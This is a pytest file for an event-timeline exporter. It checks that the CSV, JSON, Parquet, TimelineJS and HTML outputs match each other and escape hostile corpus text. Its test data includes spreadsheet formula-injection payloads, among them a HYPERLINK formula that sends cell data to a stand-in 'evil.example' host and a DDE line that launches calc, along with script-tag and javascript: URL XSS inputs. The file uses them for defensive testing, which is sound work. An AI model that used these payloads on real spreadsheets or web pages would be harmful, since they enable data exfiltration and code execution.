"""The column-at-a-time writers (`nkviewer.export.cells`) write what the per-record encoders
wrote: every event as a dict (`records`), `json.dumps` of it, `csv.DictWriter` of `csv_row`.
TimelineJS and HTML documents (one implementation, `nkviewer.export.documents`) are read back
and checked against what each event's record says they show."""

from __future__ import annotations

import csv
import html
import io
import json
import math
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from nkviewer.events.record import ALL_FIELDS, Event
from nkviewer.events.table import events_to_frame
from nkviewer.export import cells, data
from nkviewer.export.cells import contract_typed
from nkviewer.export.data import records, write_events
from nkviewer.export.stream import write_event_stream

TRICKY_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "-12.5",
    "+3",
    "-.5e-3",
    "-١٢",  # Arabic-Indic digits: a number to Python's `\d` as to a spreadsheet
    "-1e",
    "-",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    'a "quoted", comma',
    "line\nbreak and\r\ncrlf",
    "김정은 met Putin 🇰🇵",
    "",
    "'already quoted",
    "100%s %d {}",
]


def _tricky_frame() -> pd.DataFrame:
    events = []
    for i, text in enumerate(TRICKY_TEXT):
        events.append(
            Event(
                event_id=f"ev{i:03d}",
                title=text,
                start="2019-03-14",
                end="2019-03-14",
                granularity="day",
                timex_value="2019-03-14",
                time_text=TRICKY_TEXT[-1 - i],
                time_start=-i,
                time_end=i,
                sentence=text + " in a sentence",
                sentence_start=0,
                sentence_end=40,
                doc_id=f"doc{i % 3}",
                doc_path="/corpus/a,b.txt",
                doc_title=text,
                doc_source="-12.5",
                doc_url="https://example.org/a?b=c,d",
                doc_published="2019-03-18",
                doc_published_source="manifest",
                actors=[] if i % 2 else [text, "Vladimir Putin"],
                places=["=Moscow"] if i % 3 == 0 else [],
                lane="North Korea",
                entities=[] if i % 4 else [{"text": text, "label": "PERSON", "start": 0}],
                modality="happened",
                sources=[{"doc_id": "d", "sentence_start": 0, "sentence_end": 4}],
                reported_by=["=KCNA"] if i % 5 == 0 else [],
                uncertain=bool(i % 2),
            )
        )
    frame = events_to_frame(events)
    # values a frame read back from elsewhere may hold: None, numpy arrays in list fields
    urls = [None if i % 4 == 1 else u for i, u in enumerate(frame["doc_url"])]
    places = [np.array(p, dtype=object) if i % 3 == 0 else p for i, p in enumerate(frame["places"])]
    return frame.assign(doc_url=pd.Series(urls, dtype=object), places=places)


def _old_jsonl(frame: pd.DataFrame) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records(frame))


def _old_json(frame: pd.DataFrame) -> str:
    return json.dumps(records(frame), ensure_ascii=False, indent=1) + "\n"


def _old_csv_cells(frame: pd.DataFrame) -> list[list[str]]:
    out = io.StringIO(newline="")
    cols = [c for c in ALL_FIELDS if c in frame.columns]
    writer = csv.DictWriter(out, fieldnames=cols)
    writer.writeheader()
    writer.writerows(cells.csv_row(r) for r in records(frame))
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def _written(frame: pd.DataFrame, fmt: str, tmp_path: Path) -> str:
    return write_events(frame, tmp_path / f"e.{fmt}").read_text(encoding="utf-8")


def _cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.fixture(params=["tricky", "synthetic"])
def frame(request: pytest.FixtureRequest) -> pd.DataFrame:
    if request.param == "tricky":
        return _tricky_frame()
    from bench.synthetic import synthetic_frame

    return synthetic_frame(300, years=2, seed=3)


@pytest.mark.parametrize("streamed", [False, True])
def test_json_and_jsonl_are_those_of_the_records(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    for fmt, old in (("jsonl", _old_jsonl), ("json", _old_json)):
        path = tmp_path / f"e.{fmt}"
        if streamed:
            write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
        else:
            write_events(frame, path)
        assert path.read_text(encoding="utf-8") == old(frame), fmt


@pytest.mark.parametrize("streamed", [False, True])
def test_csv_has_the_cells_of_the_per_row_writer(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    path = tmp_path / "e.csv"
    if streamed:
        write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
    else:
        write_events(frame, path)
    written = _cells_of(path)
    assert written == _old_csv_cells(frame)
    raw = path.read_bytes()
    assert raw.startswith((",".join(written[0]) + "\r\n").encode())  # the header as csv wrote it
    assert raw.endswith(b"\r\n")


def test_tricky_cells_are_neutralised_as_spreadsheet_safe_says(tmp_path: Path) -> None:
    """The Arrow rule (`cells.neutralised`) and the Python one agree cell by cell."""
    import pyarrow as pa

    texts = [*TRICKY_TEXT, None, "@", "=", "+.5", "-5.", "-0x10", "-1e+5", "-٣.٥"]
    got = cells.neutralised(pa.array(texts, pa.string())).to_pylist()
    assert got == [None if t is None else cells.spreadsheet_safe(t) for t in texts]
    assert "'=HYPERLINK" in got[0] and got[4] == "-12.5" and got[7] == "-١٢"


def test_missing_and_odd_values_keep_their_json(tmp_path: Path) -> None:
    """Columns the fast paths do not take (None, NaN, booleans, numpy values) are encoded as
    `json.dumps` of their records encodes them."""
    frame = _tricky_frame().head(4)
    frame = frame.assign(
        doc_title=pd.Series(["a", None, math.nan, "b"], dtype=object),
        time_start=pd.Series([1, 2, 3, 4], dtype="int64"),
        uncertain=[True, False, True, False],
        lane=pd.Series([np.int64(3), "x", 2.5, None], dtype=object),
        entities=[
            [{"a": 1.5, "b": True, "c": None, "d": [1, "x", [], {}], "e": -0.0}],
            [{3: "int key", "f": float("inf")}],
            np.array([{"g": np.int64(2)}], dtype=object),
            None,
        ],
    )
    assert _written(frame, "jsonl", tmp_path) == _old_jsonl(frame)
    assert _written(frame, "json", tmp_path) == _old_json(frame)


@pytest.mark.parametrize("title", ["", "NK <diplomacy> & 김정은"])
@pytest.mark.parametrize("rows", [0, 1, 300])
def test_timelinejs_and_html_files_are_whole_documents_whatever_the_batches(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, title: str, rows: int
) -> None:
    """Written a batch of events at a time, the TimelineJS file is one JSON document laid out
    as `json.dump(doc, indent=1)` lays it out, and both files are what one batch makes; the
    public documents are the files' own text."""
    from bench.synthetic import synthetic_frame
    from nkviewer.export.data import html_report, timelinejs_document

    frame = synthetic_frame(max(rows, 1), years=2, seed=4).head(rows)
    monkeypatch.setattr(data, "RECORD_BATCH", 10**6)
    whole_json = write_events(frame, tmp_path / "w.timeline.json", title=title, allow_empty=True)
    whole_html = write_events(frame, tmp_path / "w.html", title=title, allow_empty=True)
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    path = write_events(frame, tmp_path / "t.timeline.json", title=title, allow_empty=True)
    page = write_events(frame, tmp_path / "r.html", title=title, allow_empty=True)
    text = path.read_text(encoding="utf-8")
    assert text == whole_json.read_text(encoding="utf-8")
    doc = json.loads(text)
    assert text == json.dumps(doc, ensure_ascii=False, indent=1) + "\n"
    assert [e["unique_id"] for e in doc["events"]] == list(frame["event_id"])
    assert ("title" in doc) == bool(title)
    if title:
        assert doc["title"] == {"text": {"headline": html.escape(title), "text": ""}}
    assert timelinejs_document(frame, title=title) == doc
    report = page.read_text(encoding="utf-8")
    assert report == whole_html.read_text(encoding="utf-8") == html_report(frame, title=title)
    parsed = _Report()
    parsed.feed(report)
    assert len(parsed.articles) == rows
    assert parsed.title == parsed.heading == (title or "nkviewer events")


@pytest.mark.parametrize("streamed", [False, True])
def test_parquet_is_the_table_of_the_records(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    """Made a column at a time (`cells.arrow_table`), the table is `from_pylist` of the
    records, numpy list cells included; a field no record holds a value for (here
    `conflicts`) typed as a dataset stores it (`cells.contract_typed`), not `list<null>`."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    path = tmp_path / "e.parquet"
    if streamed:
        write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
    else:
        write_events(frame, path)
    written = pq.read_table(path)
    whole = contract_typed(pa.Table.from_pylist(records(frame)))
    assert str(written.schema.field("conflicts").type) == "list<element: string>"
    assert written.schema.equals(whole.schema)
    assert written.equals(whole)


def _report_frame() -> pd.DataFrame:
    """The tricky frame, with what reports and timelines treat apart: markup and hostile
    addresses in corpus text, each granularity, ranges, merged reports, reporters as lists
    and as arrays read back from Parquet, missing outlets and titles."""
    frame = _tricky_frame()
    n = len(frame)
    grans = ["day", "week", "month", "quarter", "season", "year", "decade", "range"]
    urls = ["javascript:alert(1)", "https://example.org/<a>?b=\"c\"&d='e'", None, "file:///x"]
    return frame.assign(
        sentence=[
            f"<script>alert({i})</script> & \"q\" 'a' {t}" for i, t in enumerate(TRICKY_TEXT)
        ],
        title=[f"<b>{t}</b> & <i>co</i>" if i % 2 else t for i, t in enumerate(TRICKY_TEXT)],
        granularity=[grans[i % len(grans)] for i in range(n)],
        start=[f"20{10 + i % 9}-0{1 + i % 9}-1{i % 10}" for i in range(n)],
        end=[f"20{10 + i % 9}-0{1 + i % 9}-1{i % 10}" if i % 3 else "2021-12-31" for i in range(n)],
        doc_url=[urls[i % len(urls)] for i in range(n)],
        doc_source=[
            None if i % 5 == 2 else ("<b>KCNA</b>" if i % 2 else "Yonhap") for i in range(n)
        ],
        doc_title=["Yonhap" if i % 4 == 0 else ("" if i % 4 == 1 else f"T{i}") for i in range(n)],
        reported_by=[
            np.array(["<i>KCNA</i>", "Rodong"], dtype=object) if i % 3 == 0 else ["A & B"] * (i % 2)
            for i in range(n)
        ],
        sources=[
            [{"doc_id": f"d{j}", "sentence_start": 0, "sentence_end": 1} for j in range(i % 3)]
            for i in range(n)
        ],
        modality=["expected" if i % 2 else "happened" for i in range(n)],
        time_text=["" if i % 3 == 0 else t for i, t in enumerate(TRICKY_TEXT)],
    )


class _Report(HTMLParser):
    """An HTML report read back: its title and heading, and per article its class, the text
    of each part (unescaped) and its links."""

    _PARTS = ("date", "lane", "src")

    def __init__(self) -> None:
        super().__init__()
        self.title = self.heading = ""
        self.articles: list[dict[str, Any]] = []
        self._part: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "article":
            parts = dict.fromkeys((*self._PARTS, "h2", "blockquote"), "")
            self.articles.append({"class": named.get("class"), "links": [], **parts})
        elif tag == "a" and self.articles:
            self.articles[-1]["links"].append(named.get("href"))
        elif tag in ("title", "h1", "h2", "blockquote"):
            self._part = tag
        elif named.get("class") in self._PARTS:
            self._part = named["class"]

    def handle_endtag(self, tag: str) -> None:
        if tag in ("title", "h1", "h2", "blockquote", "span", "div"):
            self._part = None

    def handle_data(self, data: str) -> None:
        if self._part == "title":
            self.title += data
        elif self._part == "h1":
            self.heading += data
        elif self._part is not None and self.articles:
            self.articles[-1][self._part] += data


def _text(value: Any) -> str:
    return "" if value is None or value != value else str(value)


def _http(value: Any) -> str | None:
    """The address when it is one a report may link to: http(s) only."""
    address = _text(value).strip()
    return address if address.lower().startswith(("http://", "https://")) else None


def _timeline_date(iso: str, granularity: str, *, end: bool = False) -> dict[str, int]:
    """TimelineJS dates at the event's precision: a year for years and decades (and a
    season's end, which may fall in the next year), a month for months, quarters and seasons,
    a day for the rest."""
    y, m, d = (int(x) for x in iso.split("-"))
    if granularity in ("year", "decade") or (granularity == "season" and end):
        return {"year": y}
    if granularity in ("month", "quarter", "season"):
        return {"year": y, "month": m}
    return {"year": y, "month": m, "day": d}


def test_timeline_events_of_the_tricky_frame() -> None:
    """Each TimelineJS event, read back as JSON: its id, dates at the event's precision, the
    escaped title and sentence, who reported it, the article — a link only when http(s), its
    names otherwise — the lane and the date as written. Corpus text (formulas included: no
    spreadsheet reads these) stays as it was, escaped."""
    from nkviewer.export.data import timelinejs_document

    frame = _report_frame()
    events = timelinejs_document(frame)["events"]
    assert len(events) == len(frame)
    for ev, rec in zip(events, records(frame), strict=True):
        gran = rec["granularity"]
        want: dict[str, Any] = {
            "unique_id": rec["event_id"],
            "start_date": _timeline_date(rec["start"], gran),
            "text": ev["text"],
            "group": rec["lane"],
            "display_date": rec["time_text"] or rec["start"],
        }
        if rec["end"] != rec["start"]:
            want["end_date"] = _timeline_date(rec["end"], gran, end=True)
        assert ev == want
        assert ev["text"]["headline"] == html.escape(rec["title"])
        body = ev["text"]["text"]
        assert body.startswith(html.escape(rec["sentence"]))
        assert "<script>" not in body
        parsed = _Report()
        parsed.feed("<article>" + body)
        names = ", ".join(
            dict.fromkeys(x for x in (_text(rec["doc_source"]), _text(rec["doc_title"])) if x)
        )
        url = _http(rec["doc_url"])
        assert parsed.articles[0]["links"] == ([url] if url else [])
        shown = html.unescape(re.sub("<[^>]*>", "", body))
        reporters = ", ".join(rec["reported_by"] or [])
        article = (" " + (names or "source")) if url else (f" ({names})" if names else "")
        according = f" (according to {reporters})" if reporters else ""
        assert shown == rec["sentence"] + according + article


def test_report_articles_of_the_tricky_frame() -> None:
    """Each HTML article, read back by an HTML parser: an expected event's article apart
    (class), its dates, lane, modality, how many reports and who reported it, the title, the
    sentence, the outlet and publication date, and the article — a link only when http(s);
    every corpus text shown as it was (never as markup)."""
    from nkviewer.export.data import html_report

    frame = _report_frame()
    page = html_report(frame, title="<T>")
    assert "<script>" not in page and "javascript:" not in page and "file:" not in page
    parsed = _Report()
    parsed.feed(page)
    assert parsed.title == "<T>"
    assert len(parsed.articles) == len(frame)
    for art, rec in zip(parsed.articles, records(frame), strict=True):
        assert art["class"] == ("expected" if rec["modality"] == "expected" else None)
        when = rec["start"] if rec["start"] == rec["end"] else f"{rec['start']} – {rec['end']}"
        assert art["date"] == when
        n = len(rec["sources"])
        reporters = ", ".join(rec["reported_by"] or [])
        lane = f"{rec['lane']} · {rec['modality']}"
        lane += (f" · reported in {n} articles" if n > 1 else "") + (
            f" · according to {reporters}" if reporters else ""
        )
        assert art["lane"] == lane
        assert art["h2"] == rec["title"]
        assert art["blockquote"] == rec["sentence"]
        url = _http(rec["doc_url"])
        assert art["links"] == ([url] if url else [])
        label = rec["doc_title"] or _text(rec["doc_source"]) or rec["doc_path"]
        assert art["src"] == f"{_text(rec['doc_source'])} {rec['doc_published']} — {label}"


def test_report_keeps_carriage_returns_of_corpus_text(tmp_path: Path) -> None:
    """A "\\r" in corpus text stays one in the file (the text is written untranslated)."""
    frame = _report_frame()
    page = write_events(frame, tmp_path / "r.html", title="<T>").read_bytes().decode("utf-8")
    assert "line\nbreak and\r\ncrlf" in page and "\r=1+1" in page
